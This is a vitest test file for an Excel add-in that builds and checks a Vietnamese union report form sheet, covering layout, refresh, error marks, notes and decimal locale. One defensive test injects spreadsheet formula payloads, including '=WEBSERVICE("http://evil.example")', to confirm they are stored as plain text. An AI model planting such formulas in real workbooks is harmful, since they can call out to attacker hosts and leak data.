/** @module Tests of the form sheet in a mocked workbook: insert, refresh, check marks and notes, sync counts. */
import { beforeEach, describe, expect, it } from 'vitest'
import { defaultCatalog } from '../../../shared/form-catalog.ts'
import type { FormDefinition } from '../../../shared/form-definition.ts'
import { cellOfRow, formSheetLayout } from '../../../shared/sheet-layout.ts'
import {
  checkFormSheet,
  insertFormSheet,
  readWorkbookState,
  type SheetCheck,
} from '../../../addin/excel/form-sheet.ts'
import { hostFeatures, typesDotDecimals } from '../../../addin/excel/host.ts'
import { FILL, MARKS_HEADER, NOTE_PREFIX } from '../../../addin/marks-plan.ts'
import { installMockExcel, type MockExcel } from '../mock-excel.ts'

const b01 = defaultCatalog().get('B01') as FormDefinition
const options = {
  unitName: 'CĐCS Trường THPT Chợ Mới',
  upperUnitName: 'Công đoàn Giáo dục tỉnh Bắc Kạn',
  cutoff: '2026-11-30',
  unitCode: 'BK.GD.001',
  periodId: '2026-Y',
}
const layout = formSheetLayout(b01, options)
const cell = (code: string): string => cellOfRow(layout, code)!

function type(excel: MockExcel, code: string, value: unknown): void {
  const at = layout.rows.find((row) => row.code === code)!
  excel.sheet('B01').grid[at.rowNumber - 1]![3] = value
}

async function check(): Promise<Extract<SheetCheck, { ok: true }>> {
  const result = await checkFormSheet(b01, 'B01', hostFeatures(), 'vi')
  if (!result.ok) {
    throw new Error('not a form sheet')
  }
  return result
}

let excel: MockExcel
beforeEach(async () => {
  excel = installMockExcel()
  await insertFormSheet(b01, options, hostFeatures())
  excel.syncs = 0
})

describe('inserting the form sheet', () => {
  it('lays out the form like the template, protected, with ratio rows as formulas', () => {
    const sheet = excel.sheet('B01')
    expect(sheet.grid[0]?.[0]).toBe('CÔNG ĐOÀN GIÁO DỤC TỈNH BẮC KẠN')
    expect(sheet.grid[1]?.[0]).toBe('CĐCS TRƯỜNG THPT CHỢ MỚI')
    expect(sheet.grid[5]?.[0]).toBe('Kỳ báo cáo: Năm 2026')
    expect(sheet.grid[6]?.[0]).toBe('Số liệu tính đến ngày 30/11/2026')
    expect(sheet.print.get('printArea')).toBe(`A1:E${layout.lastPrintedRow}`)
    expect(sheet.print.get('titleRows')).toBe(`$${layout.headerRow}:$${layout.headerRow}`)
    expect(sheet.grid[layout.headerRow - 1]?.slice(0, 5)).toEqual([
      'TT',
      'Nội dung',
      'Đơn vị tính',
      'Số lượng',
      'Ghi chú',
    ])
    expect(sheet.grid[layout.headerRow - 1]?.[6]).toBe(MARKS_HEADER)
    const rate = layout.rows.find((row) => row.code === 'workers.insuredRate')!
    expect(sheet.grid[rate.rowNumber - 1]?.[3]).toBe(rate.formula)
    expect(sheet.protected).toBe(true)
  })

  it('remembers form, version, unit, period and sheet in the custom properties', async () => {
    expect((await readWorkbookState()).report).toEqual({
      form: 'B01',
      version: b01.version,
      unit: 'BK.GD.001',
      period: '2026-Y',
      sheet: 'B01',
    })
  })

  it('keeps typed values and notes when refreshed, even after rows moved', async () => {
    type(excel, 'workers.total', 120)
    type(excel, 'members.total', '25.000')
    const at = layout.rows.find((row) => row.code === 'workers.total')!
    excel.sheet('B01').grid[at.rowNumber - 1]![4] = 'số liệu tạm'
    const result = await insertFormSheet(b01, options, hostFeatures())
    expect(result.kept).toBe(2)
    const grid = excel.sheet('B01').grid
    expect(grid[at.rowNumber - 1]?.[3]).toBe(120)
    expect(grid[at.rowNumber - 1]?.[4]).toBe('số liệu tạm')
    const members = layout.rows.find((row) => row.code === 'members.total')!
    expect(grid[members.rowNumber - 1]?.[3]).toBe('25.000')
    expect(excel.syncs).toBeLessThanOrEqual(3)
  })
})

describe('texts of a loaded form version', () => {
  it('are written as text, never as formulas: labels, TT, units, names and notes', async () => {
    const hostile: FormDefinition = {
      ...b01,
      rows: b01.rows.map((row, i) =>
        i === 0
          ? { ...row, tt: '=1+1', label: '=WEBSERVICE("http://evil.example")', unit: '@x' }
          : row,
      ),
    }
    excel = installMockExcel()
    await insertFormSheet(hostile, { ...options, unitName: '+CĐCS Giả' }, hostFeatures())
    const hostileLayout = formSheetLayout(hostile, { ...options, unitName: '+CĐCS Giả' })
    const derived = new Set(hostileLayout.rows.map((row) => row.formula).filter(Boolean))
    const live = [...excel.sheet('B01').formulas.values()]
    expect(live.length).toBeGreaterThan(0)
    expect(live.filter((formula) => !derived.has(formula))).toEqual([])
    const grid = excel.sheet('B01').grid.flat()
    expect(grid).toContain('=WEBSERVICE("http://evil.example")')
    expect(grid).toContain('@x')
  })
})

describe('checking the form sheet', () => {
  it('marks a part larger than its parent and a text in a count, in Vietnamese, in 3 syncs', async () => {
    type(excel, 'workers.total', 100)
    type(excel, 'workers.women', 120)
    type(excel, 'members.total', 'nhiều')
    const result = await check()
    expect(excel.syncs).toBeLessThanOrEqual(3)
    const sheet = excel.sheet('B01')
    expect(sheet.fills.get(cell('workers.women'))).toBe(FILL.error)
    expect(sheet.fills.get(cell('members.total'))).toBe(FILL.error)
    expect(sheet.notes.get(cell('workers.women'))).toMatch(new RegExp(`^${NOTE_PREFIX}.*120`, 's'))
    expect(sheet.notes.get(cell('members.total'))).toContain('nhiều')
    expect(result.findings.map((finding) => finding.rule)).toEqual(
      expect.arrayContaining(['parent:workers.women']),
    )
    expect(result.cells['workers.women']).toBe(cell('workers.women'))
  })

  it('clears its marks once the values are fixed, and only its own', async () => {
    type(excel, 'workers.total', 100)
    type(excel, 'workers.women', 120)
    type(excel, 'members.total', 80)
    const sheet = excel.sheet('B01')
    const userNote = cell('workers.total')
    sheet.notes.set(userNote, 'Ghi chú của người dùng')
    sheet.fills.clear()
    await check()
    type(excel, 'workers.women', 60)
    excel.syncs = 0
    const result = await check()
    expect(result.findings.filter((finding) => finding.severity === 'error')).toEqual([])
    expect(sheet.fills.get(cell('workers.women'))).toBeNull()
    expect(sheet.notes.has(cell('workers.women'))).toBe(false)
    expect(sheet.notes.get(userNote)).toBe('Ghi chú của người dùng')
    expect([...sheet.fills.keys()].every((address) => address.startsWith('D'))).toBe(true)
    expect(excel.syncs).toBeLessThanOrEqual(3)
  })

  it('never overwrites a note the user wrote on a marked cell', async () => {
    type(excel, 'workers.total', 100)
    type(excel, 'workers.women', 120)
    excel.sheet('B01').notes.set(cell('workers.women'), 'Của tôi')
    await check()
    expect(excel.sheet('B01').notes.get(cell('workers.women'))).toBe('Của tôi')
    expect(excel.sheet('B01').fills.get(cell('workers.women'))).toBe(FILL.error)
  })

  it('falls back to fills alone on a host without notes (ExcelApi 1.17)', async () => {
    excel.sets = new Set(['1.7', '1.8', '1.17'])
    type(excel, 'workers.total', 100)
    type(excel, 'workers.women', 120)
    const result = await check()
    expect(result.findings.length).toBeGreaterThan(0)
    expect(excel.sheet('B01').notes.size).toBe(0)
    expect(excel.sheet('B01').fills.get(cell('workers.women'))).toBe(FILL.error)
    expect(excel.syncs).toBeLessThanOrEqual(2)
  })

  it('takes its marks off when the sheet is refreshed', async () => {
    type(excel, 'workers.total', 100)
    type(excel, 'workers.women', 120)
    await check()
    expect(excel.sheet('B01').notes.size).toBeGreaterThan(0)
    await insertFormSheet(b01, options, hostFeatures())
    expect(excel.sheet('B01').notes.size).toBe(0)
    expect(excel.sheet('B01').fills.get(cell('workers.women'))).toBeNull()
    expect(excel.sheet('B01').grid[layout.rows[2]!.rowNumber - 1]?.[3]).toBe(120)
  })

  it('keeps the sheet protected after marking', async () => {
    type(excel, 'workers.women', 'abc')
    await check()
    expect(excel.sheet('B01').protected).toBe(true)
  })

  it('says so when the code column is gone', async () => {
    excel.sheet('B01').grid = [['một trang khác']]
    const result = await checkFormSheet(b01, 'B01', hostFeatures(), 'vi')
    expect(result).toEqual({ ok: false, code: 'NOT_FORM_SHEET' })
  })
})

describe('how Excel types decimals', () => {
  it('reads an English-locale Excel’s "." with the workbook’s report, in one sync', async () => {
    excel.decimalSeparator = '.'
    excel.sets.add('1.11')
    const state = await readWorkbookState()
    expect(state.decimalSeparator).toBe('.')
    expect(typesDotDecimals(state.decimalSeparator)).toBe(true)
    expect(state.report?.form).toBe('B01')
    expect(excel.syncs).toBe(1)
  })

  it('says nothing for a Vietnamese-locale Excel', async () => {
    excel.sets.add('1.11')
    const state = await readWorkbookState()
    expect(state.decimalSeparator).toBe(',')
    expect(typesDotDecimals(state.decimalSeparator)).toBe(false)
  })

  it('does not ask a host without ExcelApi 1.11, and still reads the report', async () => {
    excel.decimalSeparator = '.'
    const state = await readWorkbookState()
    expect(state.decimalSeparator).toBeNull()
    expect(typesDotDecimals(state.decimalSeparator)).toBe(false)
    expect(state.report?.unit).toBe('BK.GD.001')
  })
})
